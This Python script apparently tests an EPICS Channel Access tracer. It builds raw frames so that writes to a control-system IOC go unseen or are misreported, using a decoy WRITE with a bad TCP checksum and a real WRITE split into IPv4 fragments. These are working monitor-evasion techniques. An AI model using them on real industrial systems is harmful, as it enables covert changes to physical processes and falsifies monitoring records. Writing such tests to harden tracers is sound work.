#!/usr/bin/env python3
"""A CA client that hides a write from tracers (issue 14), over a real
circuit to the IOC, at the sequence number its socket uses next:

  decoy      a hand-built WRITE of DECOY whose TCP checksum is wrong, then
             the real WRITE of VALUE through the socket.  The IOC's stack
             drops the decoy and applies the real one; a tracer that
             believes the decoy logs a value never written and takes the
             real one for a retransmission.  Prints "read back V", the
             value the IOC holds afterwards (READ_NOTIFY on the circuit).
  fragments  the WRITE of VALUE hand-built, its checksum right, sent in two
             IPv4 fragments (the CA header cut after 4 bytes).  The IOC
             puts it back together and applies it.  The socket never knew
             of those bytes, so the circuit is left as it is: read the
             value on another one.  Prints "sent".

Usage: ca_decoy.py decoy|fragments IFACE HOST PV VALUE [DECOY]
Exit 0 when every answer came, 1 otherwise.  Needs root (AF_PACKET)."""
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from ca_wire import (CLIENT_NAME, CREATE_CHAN, DBR_DOUBLE, HOST_NAME, READ_NOTIFY,  # noqa: E402
                     VERSION, WRITE, csum, msg, next_msg)

ETH_P_ALL = 0x0003


def wait_for(sock, cmd):
    """(dtype, count, p1, p2, payload) of the next message `cmd`."""
    while True:
        m = next_msg(sock)
        if m[0] == cmd:
            return m[1:]


def last_sent(sniff, sport):
    """The newest frame this socket sent (the sniffer sees both ways):
    (ethernet header, ip header, tcp header, payload length)."""
    newest = None
    sniff.setblocking(False)
    while True:
        try:
            frame = sniff.recv(65535)
        except BlockingIOError:
            return newest
        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
            continue
        ihl = (frame[14] & 0x0F) * 4
        tcp = frame[14 + ihl:]
        if struct.unpack("!H", tcp[0:2])[0] != sport:
            continue
        tot = struct.unpack("!H", frame[16:18])[0]
        doff = (tcp[12] >> 4) * 4
        newest = (frame[:14], frame[14:14 + ihl], tcp[:doff], tot - ihl - doff)


def segment(seen, payload, wrong_sum):
    """The next segment of the circuit: (ethernet header, IPv4 addresses,
    TCP header and payload)."""
    eth, ip, tcp, plen = seen
    seq, ack = struct.unpack("!II", tcp[4:12])
    window = struct.unpack("!H", tcp[14:16])[0]
    src, dst = ip[12:16], ip[16:20]
    th = struct.pack("!HHIIBBHHH", struct.unpack("!H", tcp[0:2])[0],
                     struct.unpack("!H", tcp[2:4])[0], (seq + plen) & 0xFFFFFFFF, ack,
                     5 << 4, 0x18, window, 0, 0)
    right = csum(src + dst + struct.pack("!BBH", 0, 6, len(th) + len(payload)) + th + payload)
    if wrong_sum:
        right = (right + 1) & 0xFFFF
    th = th[:16] + struct.pack("!H", right) + th[18:]
    return eth, src, dst, th + payload


def ipv4(src, dst, body, ident, frag):
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), ident, frag, 64, 6, 0, src, dst)
    return iph[:10] + struct.pack("!H", csum(iph)) + iph[12:] + body


def main():
    mode, iface, host, pv, value = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], \
        float(sys.argv[5])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind((iface, 0))
    s = socket.create_connection((host, 5064), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(msg(VERSION, count=13) + msg(CLIENT_NAME, b"decoy\0") +
              msg(HOST_NAME, b"decoyhost\0") +
              msg(CREATE_CHAN, pv.encode() + b"\0", p1=1, p2=13))
    _, _, _, sid, _ = wait_for(s, CREATE_CHAN)
    time.sleep(0.3)   # our ACKs out: the socket is quiet
    seen = last_sent(sniff, s.getsockname()[1])
    if seen is None:
        print("no frame of the circuit seen on %s" % iface)
        return 1
    write = msg(WRITE, struct.pack("!d", value), DBR_DOUBLE, 1, sid, 2)
    if mode == "fragments":
        eth, src, dst, seg = segment(seen, write, False)
        # 24 bytes (the TCP header and 4 of CA's) with MF, the rest at 24.
        sniff.send(eth + ipv4(src, dst, seg[:24], 0x4343, 0x2000))
        sniff.send(eth + ipv4(src, dst, seg[24:], 0x4343, 24 // 8))
        print("sent")
        return 0
    eth, src, dst, seg = segment(
        seen, msg(WRITE, struct.pack("!d", float(sys.argv[6])), DBR_DOUBLE, 1, sid, 1), True)
    sniff.send(eth + ipv4(src, dst, seg, 0x4242, 0x4000))
    s.sendall(write)
    time.sleep(0.2)
    s.sendall(msg(READ_NOTIFY, b"", DBR_DOUBLE, 1, sid, 3))
    _, _, status, _, body = wait_for(s, READ_NOTIFY)
    print("read back %g" % struct.unpack("!d", body[:8])[0])
    s.close()
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except (OSError, EOFError) as e:
        print("ca_decoy: %s" % e)
        sys.exit(1)
